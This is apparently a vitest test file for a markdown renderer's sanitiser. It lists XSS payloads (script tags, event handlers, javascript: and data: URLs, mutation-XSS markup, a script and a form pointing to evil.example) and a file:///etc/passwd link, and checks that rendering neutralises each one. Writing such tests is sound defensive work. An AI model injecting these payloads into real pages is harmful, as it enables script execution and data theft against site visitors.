import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { harmIn } from './harm.ts';
import { renderAccount } from './render-account.ts';

const PAYLOADS = [
  ['a script', '<script>alert(1)</script>'],
  ['an image that fails', '<img src=x onerror=alert(1)>'],
  ['a drawing that loads', '<svg/onload=alert(1)>'],
  ['a script in a link', '<a href="javascript:alert(1)">x</a>'],
  ['a script in a link, with a line break in it', '<a href="java\nscript:alert(1)">x</a>'],
  ['a frame with a page in it', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a form that sends elsewhere', '<form action="https://evil.example/"><input name="q" autofocus></form>'],
  ['a style that loads', '<style>@import "https://evil.example/a.css";</style>'],
  ['a style on an element', '<p style="background:url(https://evil.example/a.png)">x</p>'],
  ['a base for all links', '<base href="https://evil.example/">'],
  ['a page that leaves by itself', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['an id that takes the place of another', '<a id="location" name="cookie">x</a>'],
  [
    'formulas that a parser reads in two ways',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  ],
  ['an end of what is around it', '</p></article></main><script src="https://evil.example/a.js"></script>'],
] as const;

/** The places of an account where a payload may stand. */
const PLACES: Record<string, (payload: string) => string> = {
  'by itself': (payload) => payload,
  'in a line': (payload) => `The paper says ${payload} and nothing else.`,
  'in a heading': (payload) => `## ${payload}`,
  'in a list': (payload) => `- one ${payload}`,
  'in a quotation': (payload) => `> ${payload}`,
  'in inline code': (payload) => `\`${payload}\``,
  'in the words of a mention': (payload) => `[the ${payload} council](actor:town-council)`,
  'in a note': (payload) => `[peers](sic: "${payload.replaceAll('"', '\\"')}")`,
  'in the title of a link': (payload) => `[x](https://gazette.example/ '${payload.replaceAll("'", "\\'")}')`,
  'as the target of a link': (payload) =>
    `[x](<${payload.replaceAll(/[<>\n]/g, (sign) => encodeURIComponent(sign))}>)`,
  'as the text of an image': (payload) => `![${payload}](https://evil.example/x.png)`,
};

const DANGEROUS_URLS = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'java&#x0A;script:alert(1)',
  '&#106;avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
];

function harmAnywhere(payload: string): string[] {
  return Object.entries(PLACES).flatMap(([place, write]) =>
    harmIn(renderAccount(write(payload))).map((harm) => `${place}: ${harm}`),
  );
}

describe('hostile input', () => {
  it.each(PAYLOADS)('does no harm anywhere in an account: %s', (_, payload) => {
    // The look-out sees the payload where nothing takes it away; so it would see what the pipeline leaves.
    expect(harmIn(payload)).not.toEqual([]);
    expect(harmAnywhere(payload)).toEqual([]);
  });

  it.each(DANGEROUS_URLS)('does no harm as the address of a link or an image: %j', (url) => {
    for (const markdown of [
      `[x](${url})`,
      `![x](${url})`,
      `<${url}>`,
      `[x][1]\n\n[1]: ${url}`,
      `[x](<${url}> "t")`,
    ]) {
      const html = renderAccount(markdown);
      expect(harmIn(html)).toEqual([]);
      expect(html).not.toMatch(/href="(?!#p[0-9]+")/);
    }
  });

  it('cannot give a link of its own the look or the ids of the site', () => {
    const html = renderAccount('<a class="pn" id="p1-actor-x" data-record="x" href="/x">a</a>');
    expect(html).toBe('<p id="p1"><a href="#p1" class="pn" aria-label="Paragraph 1">1</a>a</p>');
  });
});

const CORPUS = new URL('../../../../shared/corpora/markup/xss-payloads.json', import.meta.url);

describe.runIf(existsSync(CORPUS))('every payload of the shared corpus', () => {
  const payloads = existsSync(CORPUS)
    ? (JSON.parse(readFileSync(CORPUS, 'utf8')) as { title: string; payload: string }[])
    : [];

  it.each(payloads)('does no harm anywhere in an account: $title', ({ payload }) => {
    expect(harmAnywhere(payload)).toEqual([]);
  });
});
